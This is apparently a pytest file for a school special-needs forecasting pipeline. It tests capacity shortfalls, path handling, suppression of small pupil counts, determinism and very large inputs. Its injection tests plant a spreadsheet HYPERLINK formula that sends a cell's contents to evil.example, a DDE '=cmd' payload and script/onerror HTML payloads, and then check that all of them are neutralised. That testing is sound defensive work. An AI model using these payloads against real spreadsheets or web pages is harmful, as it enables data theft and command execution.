"""Probe cases that need a whole run: capacity, paths, privacy of everything written, formula and
HTML injection, determinism, big inputs (../shared/probes/2026-12/REPORT.md, issue 13). How cases
are built: tests/probe_cases.py."""
from __future__ import annotations

import base64
import contextlib
import io
import os
import re
import shutil
import struct
import zipfile
import zlib
from pathlib import Path

import matplotlib

matplotlib.use("Agg")

import numpy as np
import openpyxl
import pandas as pd
import pytest
from probe_cases import (
    TABLES,
    _checksums,
    _read,
    _write,
    build_case,
    cells,
    owned,
    run_cli,
)

from senforecast.pipeline import cli
from senforecast.pipeline.config import (
    load_config,
)
from senforecast.pipeline.run import read_inputs


# ------------------------------------------------------------------------------ whole runs
@pytest.mark.slow
def test_n036_prov_cap_zero_shows_a_shortfall(tmp_path):
    cfg = build_case(tmp_path / "c", cells("provision", {(6, "capacity"): "0"}))
    r = run_cli(["run", str(cfg), "--quiet"], cfg.parent)
    assert r.rc == 0, r.err
    base = r.csv("Gap_by_base")
    rows = base[base["setting"] == "RB-ABR-P"] if "setting" in base.columns else base[base.iloc[:, 0] == "RB-ABR-P"]
    assert len(rows) and (rows["capacity"] == 0).all()
    short = [c for c in rows.columns if "short" in c]
    assert short and (rows[short].to_numpy(float) > 0).any()


@pytest.mark.slow
def test_n063_cfg_relative_paths_from_another_folder(tmp_path, monkeypatch):
    folder = tmp_path / "case"
    cfg = build_case(folder, toml=tuple((f'{t} = "{t}.csv"', f'{t} = "data/{t}.csv"') for t in TABLES))
    (folder / "data").mkdir()
    for t in TABLES:
        shutil.move(str(folder / f"{t}.csv"), folder / "data" / f"{t}.csv")
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    monkeypatch.chdir(elsewhere)
    err, std = io.StringIO(), io.StringIO()
    with contextlib.redirect_stderr(err), contextlib.redirect_stdout(std):
        rc = cli.main(["run", os.path.relpath(cfg, elsewhere), "--out", "out", "--quiet"])
    assert rc == 0, err.getvalue()
    assert (elsewhere / "out" / "report.html").is_file()


def _outputs_text(folder: Path) -> list[tuple[str, bytes]]:
    """Every piece of text an output folder holds: files, xlsx parts, inflated PDF streams,
    PNG text chunks, and the PNGs embedded in report.html."""
    parts: list[tuple[str, bytes]] = []

    def png_chunks(name: str, data: bytes) -> None:
        pos = 8
        while pos + 8 <= len(data):
            length, kind = struct.unpack(">I4s", data[pos:pos + 8])
            body = data[pos + 8:pos + 8 + length]
            if kind in (b"tEXt", b"iTXt"):
                parts.append((f"{name}:{kind.decode()}", body))
            elif kind == b"zTXt":
                parts.append((f"{name}:zTXt", zlib.decompress(body.split(b"\0", 1)[1][1:])))
            pos += 12 + length

    for p in sorted(folder.rglob("*")):
        if not p.is_file():
            continue
        data = p.read_bytes()
        parts.append((p.name, data))
        if p.suffix == ".xlsx":
            with zipfile.ZipFile(p) as z:
                parts += [(f"{p.name}:{n}", z.read(n)) for n in z.namelist()]
        elif p.suffix == ".pdf":
            for m in re.finditer(rb"stream\r?\n(.*?)\r?\nendstream", data, re.S):
                with contextlib.suppress(zlib.error):
                    parts.append((f"{p.name}:stream", zlib.decompress(m.group(1))))
        elif p.suffix == ".png":
            png_chunks(p.name, data)
        elif p.suffix == ".html":
            for m in re.finditer(rb"data:image/png;base64,([A-Za-z0-9+/=]+)", data):
                png_chunks(f"{p.name}:img", base64.b64decode(m.group(1)))
    return parts


@pytest.fixture(scope="module")
def priv_runs(tmp_path_factory):
    """The probe's privacy case: planted ids, a lone child, backtest, scenario, png/svg/pdf;
    run plain and with --suppress-below 5."""
    base = tmp_path_factory.mktemp("priv")

    def plant(folder: Path) -> None:
        df = _read(folder, "plans")
        codes = {pid: f"UPN-SECRET-{i:05d}" for i, pid in enumerate(df["pupil_id"].unique())}
        df["pupil_id"] = df["pupil_id"].map(codes)
        lone = df.iloc[[0]].assign(pupil_id="UPN-SECRET-LONE", year="2025", need="MSI", setting="RB-DOL-C",
                                   ncy="4", area="Dolwyn")
        # an anomaly: one child whose need is outside the setting's designation (a warning per setting)
        odd = df.iloc[[0]].assign(pupil_id="UPN-SECRET-123", year="2025", need="ASD", setting="IND-SEMH",
                                  ncy="9", area="Dolwyn")
        _write(folder, "plans", pd.concat([df, lone, odd], ignore_index=True))

    cfg = build_case(base / "case", plant,
                     toml=(("enabled = false", "enabled = true\ndraws = 10\nhorizons = [1]"),
                           ('chart_formats = ["png"]', 'chart_formats = ["png", "svg", "pdf"]')),
                     extra_toml='\n[[scenarios]]\nname = "growth"\njoiner_multiplier = 1.1\n')
    plain = run_cli(["run", str(cfg), "--quiet"], cfg.parent, out=base / "out")
    hidden = run_cli(["run", str(cfg), "--quiet", "--suppress-below", "5"], cfg.parent, out=base / "out_sup")
    assert plain.rc == 0 and hidden.rc == 0, plain.err + hidden.err
    return plain, hidden


@pytest.mark.slow
def test_n085_priv_no_pupil_id_anywhere(priv_runs):
    for run in priv_runs:
        hits = [name for name, data in _outputs_text(run.out) if b"SECRET" in data]
        assert hits == []


def _hidden(v) -> bool:
    return isinstance(v, str) and (v.startswith("<") or v == "c")


@pytest.mark.slow
@owned("disclosure")
def test_n086_priv_report_html_is_suppressed(priv_runs):
    """No observed count from 1 to 4 may appear in report.html's tables of observed counts
    when counts below 5 are suppressed (the probe saw Dyscalculia 2, 2, 2, 1 ...)."""
    page = (priv_runs[1].out / "report.html").read_text(encoding="utf-8")
    by_need = priv_runs[1].csv("Inputs_-_by_need")
    small = by_need[by_need.map(_hidden).any(axis=1)]
    assert len(small)  # the CSV hides some cells
    # every hidden cell shows one marker, 'c' (a '<5' beside 'c' would tell which cells are small)
    assert re.search(r"<td[^>]*>\s*c\s*</td>", page), "no hidden cell marked in report.html"


@pytest.mark.slow
def test_n086_charts_of_a_suppressed_run_are_drawn_from_the_published_tables(priv_runs):
    """The command line's --suppress-below reaches the charts: their source lines (kept as
    comments in the SVG) say that hidden counts are not drawn, and only in the suppressed run.
    What is drawn is checked number by number in tests/test_chart_disclosure.py."""
    def notes(run) -> str:
        svg = (run.out / "charts" / "projection_by_need.svg").read_text(encoding="utf-8")
        return " ".join(" ".join(c.split()) for c in re.findall(r"<!--(.*?)-->", svg, flags=re.S))

    assert "tables hide (c) are not drawn" in notes(priv_runs[1])
    assert "tables hide" not in notes(priv_runs[0])


@pytest.mark.slow
@owned("disclosure")
def test_n087_priv_starting_point_cost_does_not_reveal_a_hidden_roll(priv_runs):
    sp = priv_runs[1].csv("Starting_point")
    for _, row in sp.iterrows():
        if _hidden(row.get("on_roll")):
            shown = [c for c in ("yearly_cost", "cost_per_place") if c in sp.columns and not _hidden(row[c])
                     and pd.notna(pd.to_numeric(row[c], errors="coerce"))]
            assert len(shown) < 2, row.to_dict()


@pytest.mark.slow
@owned("disclosure")
def test_n088_priv_kind_totals_do_not_reveal_one_hidden_setting(priv_runs):
    """Inputs by setting kind gives each kind's total in the last census; places on roll gives
    each setting's count. If only one setting of a kind is hidden (a planned base shown 'c'
    is known to have no one), the total minus the shown settings is its count."""
    out = priv_runs[1]
    on_roll = out.csv("Inputs_-_places_on_roll")
    kinds = out.csv("Inputs_-_by_setting_kind").set_index("kind")
    last = kinds.columns[-1]
    for kind, members in on_roll.groupby("kind"):
        if kind not in kinds.index or _hidden(kinds.loc[kind, last]):
            continue
        unknown = members[members["on_roll"].map(_hidden) & (members["status"] == "open")]
        assert len(unknown) != 1, (kind, unknown["setting"].tolist())


@pytest.mark.slow
@owned("disclosure")
def test_n089_priv_data_warnings_show_no_small_count(priv_runs):
    """The probe saw '(IND-SEMH: 1)' in Data_warnings while the tables showed '<5'."""
    text_ = priv_runs[1].warnings()
    assert "IND-SEMH" in text_
    assert not re.search(r"[A-Z][A-Z0-9-]+: [1-4](?=[;)])", text_), text_


@pytest.mark.slow
def test_n090_priv_inputs_by_need_has_no_totals(priv_runs):
    """Good in the probe: with no total row or column only sums of 2-3 hidden cells come out."""
    by_need = priv_runs[1].csv("Inputs_-_by_need")
    labels = {str(v).lower() for v in by_need.iloc[:, 0]} | {str(c).lower() for c in by_need.columns}
    assert not {"total", "all", "all needs"} & labels


@pytest.mark.slow
def test_n091_inject_formulas_are_neutralised(tmp_path):
    def plant(folder: Path) -> None:
        prov = _read(folder, "provision")
        prov.loc[prov["setting"] == "SS-TYN", "name"] = '=HYPERLINK("http://evil.example/?"&A1,"click")'
        _write(folder, "provision", prov)
        plans = _read(folder, "plans")
        plans["area"] = plans["area"].replace("Dolwyn", "=1+1")
        _write(folder, "plans", plans)
        pop = _read(folder, "population")
        pop["area"] = pop["area"].replace("Dolwyn", "=1+1")
        _write(folder, "population", pop)
        prov["area"] = prov["area"].replace("Dolwyn", "=1+1")
        _write(folder, "provision", prov)

    cfg = build_case(tmp_path / "c", plant, toml=(('name = "Probe authority"', 'name = "=cmd|\' /C calc\'!A0"'),))
    r = run_cli(["run", str(cfg), "--quiet"], cfg.parent)
    assert r.rc == 0, r.err
    wb = openpyxl.load_workbook(r.out / "senforecast.xlsx")
    assert not [c.coordinate for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]
    for f in (r.out / "csv").glob("*.csv"):
        for line in f.read_text(encoding="utf-8-sig").splitlines():
            for cell in line.split(","):
                assert not cell.strip('"').startswith(("=", "@")), (f.name, cell)


@pytest.mark.slow
def test_n092_html_inject_is_escaped(tmp_path):
    def plant(folder: Path) -> None:
        prov = _read(folder, "provision")
        prov.loc[prov["setting"] == "SS-TYN", "name"] = "<script>alert(1)</script><img src=x onerror=alert(2)>"
        _write(folder, "provision", prov)

    cfg = build_case(tmp_path / "c", plant, toml=(('name = "Probe authority"', 'name = "</title><script>alert(3)</script>"'),))
    r = run_cli(["run", str(cfg), "--quiet"], cfg.parent)
    assert r.rc == 0, r.err
    page = (r.out / "report.html").read_text(encoding="utf-8").lower()
    assert "<script" not in page and "<img src=x" not in page and "&lt;script&gt;" in page


@pytest.mark.slow
def test_n101_n102_det_same_seed_identical_and_more_draws_change_only_projections(tmp_path):
    """The report's expectation is identical CSVs and charts. The charts once differed by a few
    pixels (the layout solver ended a few ulps apart); each is now laid out once at rounded
    positions and written without a creation date, so every chart file is identical too."""
    cfg = build_case(tmp_path / "c", toml=(("draws = 20", "draws = 100"),
                                           ('chart_formats = ["png"]', 'chart_formats = ["png", "svg", "pdf"]')))
    a = run_cli(["run", str(cfg), "--quiet"], cfg.parent, out=tmp_path / "a")
    b = run_cli(["run", str(cfg), "--quiet"], cfg.parent, out=tmp_path / "b")
    c = run_cli(["run", str(cfg), "--quiet", "--draws", "200"], cfg.parent, out=tmp_path / "c200")
    assert a.rc == b.rc == c.rc == 0
    sa, sb, sc = (_checksums(x.out) for x in (a, b, c))
    same = [k for k in sa if k.startswith("csv/") and k != "csv/notes.txt"]
    assert same and all(sa[k] == sb[k] for k in same)
    charts = [k for k in sa if k.startswith("charts/")]
    assert {k.rsplit(".", 1)[1] for k in charts} == {"png", "svg", "pdf"}
    assert [k for k in charts if sa[k] != sb[k]] == []
    inputs = [k for k in sa if re.match(r"csv/(Inputs_.*|Starting_point|Data_warnings)\.csv$", k)]
    assert inputs and all(sa[k] == sc[k] for k in inputs)
    assert sa["csv/Projection_total.csv"] != sc["csv/Projection_total.csv"]


def _big_plans(folder: Path, copies: int = 72, text_cols: bool = False) -> None:
    plans = _read(folder, "plans")
    parts = [plans.assign(pupil_id=plans["pupil_id"] + f"-{k:02d}") for k in range(copies)]
    big = pd.concat(parts, ignore_index=True)
    if text_cols:
        rng = np.random.default_rng(0)
        words = np.array(["".join(rng.choice(list("abcdefghij "), 80)) for _ in range(1000)])
        big["note1"] = words[rng.integers(0, 1000, len(big))]
        big["note2"] = words[rng.integers(0, 1000, len(big))]
    _write(folder, "plans", big)
    pop = _read(folder, "population")
    pop["count"] = (pop["count"].astype(float) * copies).astype(str)
    _write(folder, "population", pop)


@pytest.mark.slow
def test_n049_n051_big_1m_rows_with_100_draws_over_10_years(tmp_path):
    """One test for both big cases: 1,005,984 plan rows, run with --draws 100 --horizon 10
    (the probe ran 20 draws x 3 years and 100 x 10 separately; the second is the larger)."""
    cfg = build_case(tmp_path / "c", _big_plans)
    r = run_cli(["run", str(cfg), "--quiet", "--draws", "100", "--horizon", "10"], cfg.parent)
    assert r.rc == 0, r.err
    assert r.csv("Inputs_-_children_per_year")["children"].sum() == 13972 * 72


@pytest.mark.slow
def test_n050_big_200mb_with_text_columns_is_read(tmp_path):
    cfg = build_case(tmp_path / "c", lambda f: _big_plans(f, text_cols=True))
    assert (cfg.parent / "plans.csv").stat().st_size > 150e6
    data, notes = read_inputs(load_config(cfg))
    assert len(data.plans) == 13972 * 72 and "note1" not in data.plans.columns
    assert any("'note1', 'note2'" in n for n in notes)


